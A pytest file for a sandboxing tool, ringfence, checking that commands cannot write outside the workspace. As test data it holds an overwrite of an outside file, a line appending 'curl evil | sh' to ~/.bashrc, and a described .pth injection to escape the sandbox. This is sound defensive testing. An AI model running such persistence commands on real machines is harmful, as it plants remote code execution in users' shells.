"""Attack: write outside the workspace (persist in a shell rc file, another repository)."""

from __future__ import annotations

import os
import sys

from tests.conftest import World


def test_write_file_outside_workspace(world: World) -> None:
    """The command overwrites a file in a directory next to the workspace."""
    target = world.outside / "target.txt"
    script = f"echo PWNED > '{target}'"
    assert world.sandbox(script).returncode != 0
    assert target.read_text() == "ORIGINAL\n"
    assert world.unsandboxed(script).returncode == 0  # control: the guard is what stopped it
    assert target.read_text() == "PWNED\n"


def test_write_shell_rc_in_home(world: World) -> None:
    """The command appends to ~/.bashrc so the user's next shell runs its code."""
    rc = world.home / ".bashrc"
    script = f"echo 'curl evil | sh' >> '{rc}'"
    result = world.sandbox(script)
    assert result.returncode != 0
    assert rc.read_text() == "# rc\n"
    assert world.unsandboxed(script).returncode == 0


def test_ringfence_installed_in_a_writable_root_is_refused(world: World) -> None:
    """Attack: ringfence runs from a virtualenv inside a writable root (a project's own
    ``.venv``). The command appends a ``.pth`` line there, which the interpreter runs at its
    next start: the next ``ringfence run`` would be the attacker's, unsandboxed. ringfence
    refuses such a root before running anything (exit 125), naming the fix."""
    prefix = os.path.dirname(os.path.dirname(sys.executable))
    result = world.run("run", "--writable", prefix, "--", "/bin/true")
    assert result.returncode == 125, result.stderr
    assert "pipx install ringfence" in result.stderr
